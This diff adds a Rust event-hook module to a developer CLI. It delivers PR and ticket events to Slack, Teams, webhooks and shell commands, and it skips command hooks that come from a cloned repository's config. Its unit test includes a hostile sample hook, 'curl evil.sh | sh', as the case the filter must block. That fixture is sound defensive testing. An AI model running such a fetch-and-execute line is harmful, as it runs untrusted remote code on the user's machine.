@@ -0,0 +1,345 @@
+use std::{collections::BTreeMap, collections::HashMap, process::Stdio, time::Duration};
+
+use chrono::Utc;
+use color_eyre::{eyre::eyre, Result};
+use colored::*;
+use config::{Config, Hook, ProjectConfig, Sink};
+use serde::Serialize;
+use tokio::io::AsyncWriteExt;
+
+use crate::subcommands::slack;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, strum::Display)]
+pub enum EventKind {
+    #[serde(rename = "pr.created")]
+    #[strum(serialize = "pr.created")]
+    PrCreated,
+
+    #[serde(rename = "pr.merged")]
+    #[strum(serialize = "pr.merged")]
+    PrMerged,
+
+    #[serde(rename = "ticket.started")]
+    #[strum(serialize = "ticket.started")]
+    TicketStarted,
+}
+
+/// Payload delivered to the sinks configured in `tpaws.json`
+#[derive(Debug, Clone, Serialize)]
+pub struct Event {
+    pub event: EventKind,
+
+    /// One line, human readable description
+    pub summary: String,
+    pub link: Option<String>,
+    pub timestamp: String,
+    pub data: BTreeMap<String, String>,
+}
+
+impl Event {
+    pub fn new(event: EventKind, summary: impl Into<String>) -> Self {
+        Self {
+            event,
+            summary: summary.into(),
+            link: None,
+            timestamp: Utc::now().to_rfc3339(),
+            data: BTreeMap::new(),
+        }
+    }
+
+    pub fn link(mut self, link: impl Into<String>) -> Self {
+        self.link = Some(link.into());
+        self
+    }
+
+    pub fn with(mut self, key: &str, value: impl ToString) -> Self {
+        self.data.insert(key.into(), value.to_string());
+        self
+    }
+
+    /// Template variables: `event`, `summary`, `link`, `timestamp` and the data fields
+    fn variables(&self) -> HashMap<&str, String> {
+        let mut variables: HashMap<&str, String> = self
+            .data
+            .iter()
+            .map(|(k, v)| (k.as_str(), v.clone()))
+            .collect();
+
+        variables.insert("event", self.event.to_string());
+        variables.insert("summary", self.summary.clone());
+        variables.insert("link", self.link.clone().unwrap_or_default());
+        variables.insert("timestamp", self.timestamp.clone());
+
+        variables
+    }
+
+    /// Body of a webhook sink, values are escaped to be placed inside JSON strings
+    fn render_body(&self, template: Option<&str>) -> Result<String> {
+        let Some(template) = template else {
+            return Ok(serde_json::to_string(self)?);
+        };
+
+        let variables = self
+            .variables()
+            .into_iter()
+            .map(|(k, v)| {
+                let escaped = serde_json::to_string(&v)?;
+                Ok((k, escaped[1..escaped.len() - 1].to_string()))
+            })
+            .collect::<Result<HashMap<_, _>>>()?;
+
+        Ok(config::prompts::render(template, &variables))
+    }
+}
+
+/// Hooks run after the command succeeded, a slow endpoint or command must not hang it
+const HOOK_TIMEOUT: Duration = Duration::from_secs(10);
+
+fn http_client() -> Result<reqwest::Client> {
+    Ok(reqwest::Client::builder().timeout(HOOK_TIMEOUT).build()?)
+}
+
+fn sink_name(sink: &Sink) -> &'static str {
+    match sink {
+        Sink::Slack { .. } => "slack",
+        Sink::Teams { .. } => "teams",
+        Sink::Webhook { .. } => "webhook",
+        Sink::Command { .. } => "command",
+    }
+}
+
+/// Why a hook of `tpaws.json` can't run, they come with any cloned repository
+fn project_restriction(sink: &Sink) -> Option<&'static str> {
+    match sink {
+        Sink::Command { .. } => Some("command hooks"),
+        Sink::Slack {
+            webhook_url: None, ..
+        } => Some("Slack hooks without their own webhook_url"),
+        _ => None,
+    }
+}
+
+/// Hooks of the global config then of the project
+///
+/// Command hooks and bot token Slack hooks of `tpaws.json` are skipped, they would let
+/// any cloned repository execute code or post with the user's credentials
+fn hooks(config: &Config, project: Option<ProjectConfig>) -> Vec<Hook> {
+    let project_hooks = project.and_then(|p| p.hooks).unwrap_or_default();
+
+    config
+        .hooks
+        .iter()
+        .flatten()
+        .cloned()
+        .chain(project_hooks.into_iter().filter(|hook| {
+            let Some(restricted) = project_restriction(&hook.sink) else {
+                return true;
+            };
+
+            eprintln!(
+                "{}",
+                format!(
+                    "⚠ Skipping a hook of tpaws.json, {restricted} only run from the global config"
+                )
+                .yellow()
+            );
+
+            false
+        }))
+        .collect()
+}
+
+/// Deliver the event to every matching hook of the global config and the project
+///
+/// Failures are reported as warnings, they never fail the command that emitted the event
+pub async fn emit(config: &Config, event: Event) {
+    let hooks = hooks(config, ProjectConfig::read().await);
+
+    let name = event.event.to_string();
+    let sinks: Vec<&Sink> = hooks
+        .iter()
+        .filter(|h| h.accepts(&name))
+        .map(|h| &h.sink)
+        .collect();
+
+    if sinks.is_empty() {
+        return;
+    }
+
+    let results = futures::future::join_all(sinks.iter().map(|s| deliver(config, s, &event))).await;
+
+    for (sink, result) in sinks.iter().zip(results) {
+        if let Err(e) = result {
+            eprintln!(
+                "{}",
+                format!("⚠ {} hook failed for {name}: {e}", sink_name(sink)).yellow()
+            );
+        }
+    }
+}
+
+async fn deliver(config: &Config, sink: &Sink, event: &Event) -> Result<()> {
+    match sink {
+        Sink::Slack {
+            webhook_url,
+            channel,
+        } => {
+            let mut blocks = vec![::slack::models::Block::section(
+                ::slack::models::BlockType::Mrkdwn,
+                &event.summary,
+            )];
+
+            if let Some(link) = event.link.as_deref() {
+                blocks.push(::slack::models::Block::actions(vec![
+                    ::slack::models::Button::link(link, "Open"),
+                ]));
+            }
+
+            let message = ::slack::models::Message::default()
+                .text(Some(event.summary.clone()))
+                .blocks(blocks);
+
+            match webhook_url {
+                Some(url) => {
+                    ::slack::send(url, &message.channel(channel.clone())).await?;
+                }
+                None => {
+                    slack::post(&slack::current(config).await, channel.clone(), message).await?
+                }
+            }
+        }
+        Sink::Teams { webhook_url } => {
+            let text = match event.link.as_deref() {
+                Some(link) => format!("{} ([open]({link}))", event.summary),
+                None => event.summary.clone(),
+            };
+
+            http_client()?
+                .post(webhook_url)
+                .json(&serde_json::json!({
+                    "@type": "MessageCard",
+                    "@context": "https://schema.org/extensions",
+                    "summary": event.summary,
+                    "title": event.event.to_string(),
+                    "text": text,
+                }))
+                .send()
+                .await?
+                .error_for_status()?;
+        }
+        Sink::Webhook { url, body, headers } => {
+            let mut request = http_client()?
+                .post(url)
+                .header("Content-Type", "application/json")
+                .body(event.render_body(body.as_deref())?);
+
+            for (key, value) in headers {
+                request = request.header(key, value);
+            }
+
+            request.send().await?.error_for_status()?;
+        }
+        Sink::Command { command } => {
+            let mut child = commands::command!("sh", "-c", command.as_str())
+                .envs(
+                    event
+                        .variables()
+                        .into_iter()
+                        .map(|(k, v)| (format!("TPAWS_{}", k.to_uppercase()), v)),
+                )
+                .stdin(Stdio::piped())
+                .kill_on_drop(true)
+                .spawn()?;
+
+            let payload = serde_json::to_string(event)?;
+            let run = async {
+                if let Some(mut stdin) = child.stdin.take() {
+                    stdin.write_all(payload.as_bytes()).await?;
+                }
+
+                child.wait().await
+            };
+
+            let status = tokio::time::timeout(HOOK_TIMEOUT, run)
+                .await
+                .map_err(|_| eyre!("`{command}` timed out after {}s", HOOK_TIMEOUT.as_secs()))??;
+
+            if !status.success() {
+                return Err(eyre!("`{command}` exited with {status}"));
+            }
+        }
+    }
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn webhook_body() {
+        let event = Event::new(EventKind::PrCreated, "Opened \"Login\"")
+            .link("https://pr/1")
+            .with("id", 1);
+
+        let body = event
+            .render_body(Some(
+                r#"{"text": "{{summary}}", "id": {{id}}, "url": "{{link}}"}"#,
+            ))
+            .unwrap();
+        let value: serde_json::Value = serde_json::from_str(&body).unwrap();
+
+        assert_eq!(value["text"], "Opened \"Login\"");
+        assert_eq!(value["id"], 1);
+        assert_eq!(value["url"], "https://pr/1");
+
+        let value: serde_json::Value =
+            serde_json::from_str(&event.render_body(None).unwrap()).unwrap();
+
+        assert_eq!(value["event"], "pr.created");
+        assert_eq!(value["data"]["id"], "1");
+    }
+
+    #[test]
+    fn restricted_project_hooks_are_skipped() {
+        let config: Config = serde_json::from_value(serde_json::json!({
+            "username": "john.doe",
+            "pr_name": "John Doe",
+            "pr_email": "john@doe.com",
+            "user_id": 1,
+            "hooks": [{ "type": "command", "command": "notify-send tpaws" }],
+        }))
+        .unwrap();
+        let project: ProjectConfig = serde_json::from_value(serde_json::json!({
+            "hooks": [
+                { "type": "command", "command": "curl evil.sh | sh" },
+                { "type": "slack", "channel": "#leaks" },
+                { "type": "slack", "webhook_url": "https://hooks.slack.com/x" },
+                { "type": "teams", "webhook_url": "https://teams" },
+            ],
+        }))
+        .unwrap();
+
+        let sinks = hooks(&config, Some(project))
+            .into_iter()
+            .map(|hook| hook.sink)
+            .collect::<Vec<_>>();
+
+        assert_eq!(
+            sinks,
+            vec![
+                Sink::Command {
+                    command: "notify-send tpaws".into()
+                },
+                Sink::Slack {
+                    webhook_url: Some("https://hooks.slack.com/x".into()),
+                    channel: None,
+                },
+                Sink::Teams {
+                    webhook_url: "https://teams".into()
+                },
+            ]
+        );
+    }
+}